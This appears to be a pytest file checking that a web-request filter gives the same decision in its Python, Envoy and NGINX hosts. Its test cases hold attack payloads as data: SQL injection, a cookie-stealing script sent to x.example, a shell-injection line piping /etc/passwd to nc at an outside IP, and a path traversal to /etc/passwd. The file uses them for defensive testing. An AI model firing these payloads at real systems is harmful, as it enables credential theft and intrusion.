"""The same request gets the same decision in all four hosts: the Python host, ext_proc behind Envoy, and the modules in
Envoy and NGINX. The models are the default bundle; what is compared is the decision's record."""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from contract_hosts import PROXIES, ProxyStack, ask, start
from proxy_harness import BLOCKED, SETTINGS, eventually, tail_of

from native.arenafile import ArenaFile
from native.engine import Engine
from sidecar import config
from sidecar.core import open_core
from sidecar.demo.stack import merge
from sidecar.policy import compile_policy

JSON = {"content-type": "application/json"}
FORM = {"content-type": "application/x-www-form-urlencoded"}
GRPC = {"content-type": "application/grpc", "te": "trailers"}
SQL = "' union select password, 1 from users where 'a'='a"
XSS = "<script>document.location='http://x.example/?c='+document.cookie</script>"
SHELL = "; cat /etc/passwd | nc 198.51.100.9 4444"
UNCERTAIN = "/search?q=%24{7*7}"
PROSE = "select a lamp from the catalogue and order by price"
OVER = {
    "detectors": {"hold": "0s", "scanning": {"enabled": False}},
    "lists": {"allow": ["198.51.101.0/24"]},
    "routes": [
        {"name": "health", "path": "/healthz", "exempt": True},
        {"name": "login", "path": "/login", "methods": ["POST"], "body": "buffered", "login": True},
        {"name": "headers-only", "path": "/orders/*", "body": "none"},
        {"name": "observed", "path": "/search/observed", "mode": "observe"},
        {
            "name": "strict",
            "path": "/items/*/comments",
            "thresholds": {"tag": 0.2, "throttle": None, "challenge": None, "block": 0.3},
        },
        {"name": "upload", "path": "/upload/**", "body": "streamed", "body_limit": "16KiB"},
        {"name": "write", "path": "/**", "methods": ["POST", "PUT"], "body": "buffered", "body_limit": "16KiB"},
    ],
}


@dataclass(frozen=True)
class Same:
    action: str
    method: str = "GET"
    target: str = "/"
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes | None = None
    client: str | None = None
    route: str = "default"
    state: str = "none"  # of the body


def of(value: Any) -> bytes:
    return json.dumps(value).encode()


CASES = {
    "plain": Same("allow", target="/items?page=2&limit=5"),
    "prose": Same("allow", target="/search?q=" + PROSE.replace(" ", "+")),
    "SQL in a query": Same("block", target="/search?q=" + SQL.replace(" ", "%20")),
    "script in a query, encoded twice": Same(
        "block", target="/search?q=" + "".join(f"%25{ord(c):02x}" for c in XSS)
    ),
    "traversal in a value": Same("block", target="/file?name=..%2f..%2f..%2fetc%2fpasswd"),
    "shell in a header": Same("block", target="/items", headers={"user-agent": "x" + SHELL}),
    "SQL in a cookie": Same("block", target="/items", headers={"cookie": f"sid=1; theme={SQL.replace(' ', '+')}"}),
    "JSON": Same("allow", "POST", "/echo", JSON, of({"user": "ann", "note": PROSE}), route="write", state="whole"),
    "SQL in JSON": Same("block", "POST", "/echo", JSON, of({"a": [{"b": SQL}]}), route="write", state="whole"),
    "script in a form": Same(
        "block", "POST", "/echo", FORM, b"a=1&b=" + XSS.replace("=", "%3d").encode(), route="write", state="whole"
    ),
    "SQL at a login": Same(
        "block", "POST", "/login", JSON, of({"user": SQL, "password": "x"}), route="login", state="whole"
    ),
    "a body that isn't read": Same("allow", "POST", "/orders/7", JSON, of({"a": SQL}), route="headers-only"),
    "observed": Same("block", target="/search/observed?q=" + SQL.replace(" ", "%20"), route="observed"),
    "exempt": Same("allow", target="/healthz?q=" + SQL.replace(" ", "%20"), route="health"),
    "a blocked range": Same("block", target="/items", client=BLOCKED),
    "an allowed range": Same("tag", target="/search?q=" + SQL.replace(" ", "%20"), client="198.51.101.7"),
    "read along": Same("allow", "PUT", "/upload/a", JSON, of({"a": PROSE}), route="upload", state="whole"),
    "SQL, read along": Same("block", "PUT", "/upload/a", JSON, of({"a": SQL}), route="upload", state="whole"),
    "SQL before the limit": Same(
        "block", "POST", "/echo", JSON, of({"a": SQL, "pad": "chairs " * 9000}), route="write", state="part"
    ),
    "SQL behind the limit": Same(
        "allow", "POST", "/echo", JSON, of({"pad": "chairs and tables. " * 3000, "a": SQL}), route="write", state="part"
    ),
    "a gRPC call": Same(
        "allow", "POST", "/echo", GRPC, b"\0\0\0\0\x0d\n\x0bwalnut desk", route="write", state="whole"
    ),
    "SQL in a gRPC call": Same(
        "block", "POST", "/echo", GRPC, b"\0\0\0\0" + bytes([len(SQL) + 2, 10, len(SQL)]) + SQL.encode(), route="write",
        state="whole",
    ),
    "another spelling of a route": Same(
        "block", "POST", "//x/..//%6cogin", JSON, of({"user": SQL}), route="login", state="whole"
    ),
    "a strict route": Same("allow", target="/items/5/comments", route="strict"),
}  # fmt: skip
numbers = itertools.count(1)


@pytest.fixture(scope="module", params=PROXIES)
def stack(request: pytest.FixtureRequest) -> Iterator[ProxyStack]:
    with start(request.param, merge(SETTINGS, OVER)) as running:
        yield running


@pytest.fixture(scope="module")
def python_host(stack: ProxyStack) -> Any:
    core = open_core(config.load(stack.folder / "outrider.yaml"), private=True)
    return core.engine()


def decided(stack: ProxyStack, case: Same, client: str) -> tuple[int, dict[str, Any]]:
    tail = tail_of(stack)
    reply = ask(stack, case.target, client, case.method, case.body, case.headers)
    (record,) = tail.wait()
    return reply.status, record


@pytest.mark.parametrize("name", list(CASES))
def test_the_same_decision(stack: ProxyStack, python_host: Any, name: str) -> None:
    case = CASES[name]
    number = next(numbers)
    client = case.client or f"198.19.{number >> 8}.{number & 255}"
    status, record = decided(stack, case, client)
    headers = {**case.headers, "host": "shop", "x-forwarded-for": client}
    wanted = python_host.decide(case.method, case.target, headers, case.body, client=client).record()
    routes = [route.name for route in config.load(stack.folder / "outrider.yaml").effective_routes()]
    assert routes[wanted["route"]] == record["route"] == case.route
    assert wanted["action"] == record["action"] == case.action
    assert wanted["body"] == record["body"] == case.state
    assert (wanted["enforced"], wanted["mode"]) == (record["enforced"], record["mode"])
    assert [r["name"] for r in wanted["reasons"]] == [r["name"] for r in record["reasons"]]
    assert record["client"] == client
    if case.action == "allow":
        assert record["scores"]["text"] < 0.5  # the worst of it may be a header of the proxy's own
    else:
        assert record["scores"]["text"] == pytest.approx(wanted["scores"]["text"], abs=0.02)
        assert record["place"] == wanted["place"]
    if case.action == "block" and record["mode"] == "enforce":
        grpc = "grpc" in case.headers.get("content-type", "")
        assert status == (200 if grpc else 403)
    else:
        assert status not in (403, 429, 503)


def test_a_judged_text_is_refused_alike(stack: ProxyStack, python_host: Any, tmp_path: Path) -> None:
    """What is uncertain goes to the judge's ring, and what a judge has put on the list is refused, whoever decides."""
    arena = ArenaFile.open(stack.arena)
    # the key of the text, by an arena that nobody else reads but with the same secret
    twin = ArenaFile.create(tmp_path / "twin", clients=1024, events=64, blocklist=64, key=arena.key)
    twin.write_policy(compile_policy(config.load(stack.folder / "outrider.yaml")))
    assert Engine(twin, python_host.models).decide("GET", UNCERTAIN, client="198.18.201.1").record()["escalated"]
    (shown,) = twin.drain_escalations()
    assert shown["payload_key"]

    before = arena.counters()["escalated"]
    status, record = decided(stack, Same("tag", target=UNCERTAIN), "198.18.201.1")
    assert (status, record["action"], record["escalated"]) == (200, "tag", True)
    assert arena.counters()["escalated"] == before + 1
    arena.block(shown["payload_key"], 60, kind="payload")
    try:
        with_others = Same("block", target=UNCERTAIN.replace("7", "81"))
        status, record = decided(stack, with_others, "198.18.201.2")
        assert (status, record["action"], record["escalated"]) == (403, "block", False)
        assert "blocked_payload" in [reason["name"] for reason in record["reasons"]]
        status, record = decided(stack, with_others, "198.51.101.8")  # on the allow list
        assert (status, record["enforced"]) == (200, "tag")
        assert ask(stack, "/items?page=2", "198.18.201.3").status == 200
    finally:
        arena.unblock(shown["payload_key"])


def test_a_flood_is_throttled_alike(stack: ProxyStack) -> None:
    """429 with Retry-After, and the same body, everywhere."""
    flood = {"request_flood": {"enabled": True, "requests": 30, "window": "60s"}}
    over = merge(SETTINGS, merge(OVER, {"detectors": flood}))
    before = stack.arena.stat().st_ino
    stack.write_settings(over)

    def throttled() -> Any:
        reply = ask(stack, "/items", "198.18.200.1")
        return reply if reply.status == 429 else None

    reply = eventually(throttled, "the flood was throttled", 30)
    assert int(reply.headers["retry-after"]) > 0
    assert reply.headers["content-type"] == "application/problem+json"
    assert reply.headers["cache-control"] == "no-store"
    assert json.loads(reply.body) == {"type": "about:blank", "title": "Request refused", "status": 429}
    assert ask(stack, "/items", "198.18.200.2").status == 200
    assert stack.arena.stat().st_ino == before
    stack.write_settings(merge(SETTINGS, OVER))
